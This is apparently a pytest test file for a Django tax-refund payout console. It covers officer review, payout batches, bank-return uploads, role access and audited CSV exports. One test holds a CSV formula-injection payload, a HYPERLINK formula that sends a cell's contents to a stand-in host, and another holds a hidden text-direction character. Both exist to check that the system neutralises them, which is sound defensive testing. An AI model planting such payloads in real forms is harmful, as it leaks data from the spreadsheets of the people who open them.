"""The officers' console through Django's test client: review, batch, release, bank return
and the payout's correction, who may open what, and the export for Excel (the enterprise's
pages, the counter and the progress query: test_pages.py)."""

from __future__ import annotations

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from certhall.accounts.models import User
from certhall.audit.models import AuditEvent
from certhall.refunds.models import PayoutBatch, Programme, RefundApplication
from certhall.refunds.payout import RETURN_COLUMNS
from certhall.refunds.states import State
from tests.refunds.conftest import (
    ACCOUNT,
    COUNTER_FORM,
    GONE_USCC,
    NAME,
    PHONE,
    client_for,
    counter_code,
)
from tests.refunds.test_applications import bank_return, released_batch

pytestmark = pytest.mark.django_db


@pytest.mark.usefixtures("paid_and_used", "frozen")
def test_officer_console_through_payout(actors: dict[str, User], open_programme: Programme) -> None:
    from certhall.refunds.services import BankAccount, apply_online

    application = apply_online(
        actors["applicant"], "sz-2021", BankAccount(NAME, ACCOUNT, "工行"), phone=PHONE
    )
    officer = client_for(actors["officer"])
    home = officer.get("/refunds/console/?programme=sz-2021").content.decode()
    assert application.number in home and "<svg" in home and 'id="chart"' in home
    url = f"/refunds/console/applications/{application.number}/"
    assert officer.get(url).status_code == 200
    refused = officer.post(url + "reject", {"reason": ""})  # beside the form, not a notice
    assert refused.status_code == 400 and refused.content.decode().count('id="form-error"') == 1
    assert RefundApplication.objects.get().state == State.SUBMITTED  # refused: no reason
    assert officer.post(url + "approve").status_code == 303
    assert RefundApplication.objects.get().state == State.APPROVED  # 300.00 <= 500.00
    assert officer.post("/refunds/console/batches/new", {"programme": "sz-2021"}).status_code == 303
    batch = PayoutBatch.objects.get()
    release = f"/refunds/console/batches/{batch.number}/release"
    assert client_for(actors["officer2"]).post(release).status_code == 303
    csv_file = officer.get(f"/refunds/console/batches/{batch.number}.csv")
    assert csv_file.status_code == 200 and b"TOTAL," in csv_file.content
    # the file holds account numbers in full: each download is audited, with its hash
    download = AuditEvent.objects.get(action="refunds.batch.download")
    assert download.object_id == batch.number and download.actor_id == actors["officer"].pk
    assert download.after == {"sha256": batch.sha256, "count": 1}
    upload = SimpleUploadedFile("return.csv", bank_return(batch, [(1, "paid")]), "text/csv")
    settled = officer.post(
        "/refunds/console/batches/settle", {"programme": "sz-2021", "bank_return": upload}
    )
    assert settled.status_code == 303
    report = officer.get(settled["Location"]).content.decode()
    assert "拨付成功 1 笔" in report
    assert RefundApplication.objects.get().state == State.PAID
    export = officer.get("/refunds/console/export.csv?programme=sz-2021")
    assert export.status_code == 200
    assert application.number in export.content.decode("utf-8-sig")


@pytest.mark.usefixtures("paid_and_used", "frozen")
@pytest.mark.parametrize(
    ("who", "path", "status"),
    [
        ("applicant", "/refunds/console/", 403),
        ("clerk", "/refunds/console/", 403),
        ("reviewer", "/refunds/console/export.csv?programme=sz-2021", 403),
        ("officer", "/refunds/counter/", 403),
        ("applicant", "/refunds/counter/", 403),
        ("reviewer", "/refunds/counter/", 403),
        ("clerk", "/refunds/counter/", 200),
        ("officer", "/refunds/console/", 200),
    ],
)
def test_who_opens_what(
    actors: dict[str, User], open_programme: Programme, who: str, path: str, status: int
) -> None:
    assert client_for(actors[who]).get(path).status_code == status


def test_the_return_files_columns_are_named_in_chinese(
    actors: dict[str, User], open_programme: Programme
) -> None:
    """The officer is told the columns the import reads, in its order, each with its Chinese
    name (the bare ``batch,line,application,amount_yuan,result`` before, 12-06 h4)."""
    page = client_for(actors["officer"]).get("/refunds/console/batches/?programme=sz-2021")
    columns = page.content.decode().split('id="bank-return-columns">', 1)[1].split("</p>")[0]
    named = [
        re.search(rf"<code>{column}</code> [\u4e00-\u9fff]+", columns) for column in RETURN_COLUMNS
    ]
    assert all(named), columns
    places = [match.start() for match in named if match]
    assert places == sorted(places)


@pytest.mark.usefixtures("frozen")
def test_a_bad_bank_return_upload_changes_nothing(
    actors: dict[str, User], two_in_a_batch: PayoutBatch
) -> None:
    from tests.refunds.test_api import unsettled

    officer = client_for(actors["officer"])
    good = bank_return(two_in_a_batch, [(1, "failed")])
    for line, shown, status in (
        (f"{two_in_a_batch.number},2,X,300.00,paid,,{'长' * 131_073}", "第3行不是有效的CSV", 400),
        (f"{two_in_a_batch.number},2,FH20990101-999999,300.00,paid,,", "第3行：批次", 303),
    ):
        upload = SimpleUploadedFile("return.csv", good + f"{line}\n".encode(), "text/csv")
        settled = officer.post(
            "/refunds/console/batches/settle", {"programme": "sz-2021", "bank_return": upload}
        )
        # refused whole: the batches page again, the refusal in the 导入回盘 form (act_on_page);
        # refused line by line: the report after a redirect
        assert settled.status_code == status
        if status == 400:
            page = settled.content.decode()
        else:
            page = officer.get(settled["Location"]).content.decode()
        assert shown in page and "整个文件未导入" in page
        assert "已导入银行回盘文件" not in page
        unsettled(two_in_a_batch)
    # refused whole (the unreadable line) or line by line: both audited as refused
    refused = AuditEvent.objects.filter(action="refunds.batch.settle", result="refused")
    whole, by_line = refused.order_by("seq")
    assert whole.after["error"] and "第3行不是有效的CSV" in whole.after["message"]
    assert by_line.after["refused"] == 1 and by_line.after["paid"] == 0


@pytest.mark.usefixtures("paid_and_used", "frozen")
def test_an_oversized_or_invisible_field_is_refused_not_cut(
    actors: dict[str, User], open_programme: Programme
) -> None:
    """The pages cut a field at the length the service allows, so a 3,000-character bank name
    was cut to 128 and went into the bank transfer file; a direction override went too. Now the
    service refuses it by name, and past the form's bound the form itself refuses it."""
    client = client_for(actors["applicant"])
    form = {"account_name": NAME, "account_number": ACCOUNT, "phone": PHONE, "confirm": "yes"}
    long = client.post("/refunds/sz-2021/apply", {**form, "bank_name": "银" * 200})
    assert long.status_code == 400 and "开户银行不能超过128个字" in long.content.decode()
    huge = client.post("/refunds/sz-2021/apply", {**form, "bank_name": "银" * 3000})
    assert huge.status_code == 400 and "填写的内容过长" in huge.content.decode()
    hidden = client.post("/refunds/sz-2021/apply", {**form, "bank_name": "中国\u202e银行"})
    assert hidden.status_code == 400 and "开户银行的第3个字符" in hidden.content.decode()
    assert not RefundApplication.objects.exists()

    clerk = client_for(actors["clerk"])
    entry = COUNTER_FORM
    name = clerk.post("/refunds/counter/", {**entry, "enterprise_name": "深" * 500})
    assert name.status_code == 400 and "企业名称不能超过128个字" in name.content.decode()
    person = clerk.post("/refunds/counter/", {**entry, "person_name": "李" * 100})
    assert person.status_code == 400 and "姓名不能超过64个字" in person.content.decode()
    # a USCC or a phone with more after its 40th or 20th character was cut there and taken
    for name, typed in (("uscc", GONE_USCC + " " * 22 + "X"), ("phone", PHONE + " " * 9 + "9")):
        cut = clerk.post("/refunds/counter/", {**entry, name: typed})
        assert cut.status_code == 400 and "不能超过" in cut.content.decode(), name
    assert f'value="{ACCOUNT}"' in cut.content.decode()  # the rest as typed
    assert not RefundApplication.objects.exists()
    assert clerk.post("/refunds/counter/", {**entry, "code": counter_code()}).status_code == 303


@pytest.mark.usefixtures("paid_and_used", "frozen")
def test_a_failed_payout_offers_the_correction_not_an_approval(
    actors: dict[str, User], open_programme: Programme
) -> None:
    """The review form showed 初审通过（提交复核） beside the correction on a failed payout
    (approved is among its next states, reached by correcting the account only): the button
    could only be refused."""
    from certhall.refunds import payout, review, services
    from certhall.refunds.services import BankAccount

    application = services.apply_online(
        actors["applicant"], "sz-2021", BankAccount(NAME, ACCOUNT, "工行"), phone=PHONE
    )
    review.approve(actors["officer"], application.number)  # 300.00: one officer
    batch = released_batch(actors["officer"], actors["officer2"], "sz-2021")
    payout.settle(actors["officer"], "sz-2021", bank_return(batch, [(1, "failed")]))
    officer = client_for(actors["officer2"])
    page = officer.get(f"/refunds/console/applications/{application.number}/").content.decode()
    assert "拨付失败，待更正账户" in page
    assert 'id="correct"' in page
    assert 'id="approve"' not in page and 'id="reject"' not in page
    # a refused correction keeps what the officer typed (it came back with the old account)
    typed = {"account_name": "别人", "account_number": "6222020000000000001", "bank_name": "建行"}
    url = f"/refunds/console/applications/{application.number}/correct"
    refused = officer.post(url, typed)
    shown = refused.content.decode()
    assert refused.status_code in (400, 422) and shown.count('id="form-error"') == 1
    assert 'value="6222020000000000001"' in shown and 'value="别人"' in shown
    assert f'value="{ACCOUNT}"' not in shown
    assert RefundApplication.objects.get().account_number == ACCOUNT


@pytest.mark.usefixtures("paid_and_used", "frozen")
def test_a_corrected_account_above_the_threshold_waits_for_the_second_officer(
    actors: dict[str, User], open_programme: Programme
) -> None:
    """The console's correction of an account above the threshold says a second officer must
    approve it, and offers that officer the review (the first is refused)."""
    from certhall.refunds import payout, review, services
    from certhall.refunds.services import BankAccount

    Programme.objects.filter(pk=open_programme.pk).update(second_review_above="100.00")
    application = services.apply_online(
        actors["applicant"], "sz-2021", BankAccount(NAME, ACCOUNT, "工行"), phone=PHONE
    )
    review.approve(actors["officer"], application.number)
    review.approve(actors["officer2"], application.number)
    batch = released_batch(actors["officer"], actors["officer2"], "sz-2021")
    payout.settle(actors["officer"], "sz-2021", bank_return(batch, [(1, "failed")]))
    officer = client_for(actors["officer"])
    url = f"/refunds/console/applications/{application.number}/"
    new = {"account_name": NAME, "account_number": "6222020000000000001", "bank_name": "建行"}
    done = officer.post(url + "correct", new, follow=True).content.decode()
    assert "须由另一名审核人员复核后重新拨付" in done
    assert RefundApplication.objects.get().state == State.FIRST_APPROVED
    refused = officer.post(url + "approve", follow=True).content.decode()
    assert RefundApplication.objects.get().state == State.FIRST_APPROVED
    assert "复核" in refused
    page = client_for(actors["officer2"]).get(url).content.decode()
    assert 'id="approve"' in page and "6222020000000000001" in page
    assert client_for(actors["officer2"]).post(url + "approve").status_code == 303
    assert RefundApplication.objects.get().state == State.APPROVED


@pytest.mark.usefixtures("paid_and_used", "frozen")
def test_the_export_for_excel_does_not_carry_formulas(
    actors: dict[str, User], open_programme: Programme
) -> None:
    """The export is written for Excel (UTF-8 with a BOM); a bank name the enterprise typed as
    =HYPERLINK(...) was a formula in the officer's spreadsheet. Text that starts like a formula
    is kept as text (a leading apostrophe); the bank's transfer file keeps what was typed."""
    import csv
    import io

    from certhall.refunds import services
    from certhall.refunds.services import BankAccount

    typed = '=HYPERLINK("http://e.example/?x="&A1,"银行")'
    application = services.apply_online(
        actors["applicant"], "sz-2021", BankAccount(NAME, ACCOUNT, typed), phone=PHONE
    )
    export = client_for(actors["officer"]).get("/refunds/console/export.csv?programme=sz-2021")
    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
    assert [row["application"] for row in rows] == [application.number]
    assert rows[0]["bank_name"] == "'" + typed
    assert rows[0]["amount_yuan"] == "300.00" and rows[0]["enterprise_name"] == NAME


@pytest.mark.usefixtures("paid_and_used", "frozen")
def test_the_export_is_audited_as_the_transfer_file_is(
    actors: dict[str, User], open_programme: Programme
) -> None:
    """The officers' export holds every application's account number in full, as a payout
    batch's transfer file does; the file's download was audited and the export was not: an
    officer could take every enterprise's bank account away without a trace."""
    import hashlib

    from certhall.refunds import services
    from certhall.refunds.services import BankAccount

    services.apply_online(
        actors["applicant"], "sz-2021", BankAccount(NAME, ACCOUNT, "工行"), phone=PHONE
    )
    export = client_for(actors["officer"]).get("/refunds/console/export.csv?programme=sz-2021")
    assert export.status_code == 200 and ACCOUNT in export.content.decode("utf-8-sig")
    event = AuditEvent.objects.get(action="refunds.export")
    assert event.actor_id == actors["officer"].pk and event.object_id == "sz-2021"
    assert event.after == {"sha256": hashlib.sha256(export.content).hexdigest(), "count": 1}
    # refused (not an officer): nothing exported, nothing recorded as exported
    assert client_for(actors["reviewer"]).get(export.request["PATH_INFO"]).status_code == 403
    assert AuditEvent.objects.filter(action="refunds.export").count() == 1


@pytest.mark.usefixtures("frozen")
def test_a_bank_return_with_many_refused_lines_lists_the_first_reasons(
    actors: dict[str, User], two_in_a_batch: PayoutBatch
) -> None:
    """Every refused line's reason went into the session and onto the page (a probe of 12-07:
    1.2 MB of session for 100,000 lines); the page lists the first ones and says how many."""
    from certhall.refunds.web.officer import SHOWN_REFUSALS

    officer = client_for(actors["officer"])
    good = bank_return(two_in_a_batch, [(1, "failed")])
    bad = "".join(
        f"{two_in_a_batch.number},2,FH20990101-{n:06d},300.00,paid,,\n" for n in range(50)
    )
    upload = SimpleUploadedFile("return.csv", good + bad.encode(), "text/csv")
    settled = officer.post(
        "/refunds/console/batches/settle", {"programme": "sz-2021", "bank_return": upload}
    )
    page = officer.get(settled["Location"]).content.decode()
    assert page.count("第") >= SHOWN_REFUSALS and "FH20990101-000019" in page
    assert "FH20990101-000020" not in page
    assert f"以上为前 {SHOWN_REFUSALS} 行的原因，共拒绝 50 行。" in page
    assert len(officer.session.get("refund_settle_report", "")) == 0  # shown once, then gone


@pytest.mark.usefixtures("open_programme")
def test_a_refused_bank_return_is_the_batches_page_with_its_file_marked(
    actors: dict[str, User],
) -> None:
    """导入回盘 went through ``act_and_return``: refused (no file, a file not UTF-8), a notice
    above the page after a redirect, nothing marked. It is the batches page again, the refusal
    inside the 导入回盘 form, the file field marked."""
    officer = client_for(actors["officer"])
    gbk = SimpleUploadedFile("return.csv", "批次,行号\n".encode("gbk"), "text/csv")
    for sent in ({"bank_return": gbk}, {}):
        refused = officer.post("/refunds/console/batches/settle", {"programme": "sz-2021", **sent})
        page = refused.content.decode()
        assert refused.status_code == 400, page
        start = page.index('enctype="multipart/form-data"')
        assert 'id="form-error"' in page[start : page.index("</form>", start)]
        assert page.count('id="form-error"') == 1
        assert re.findall(r'<input[^>]*name="(\w+)"[^>]*aria-invalid="true"', page) == [
            "bank_return"
        ]
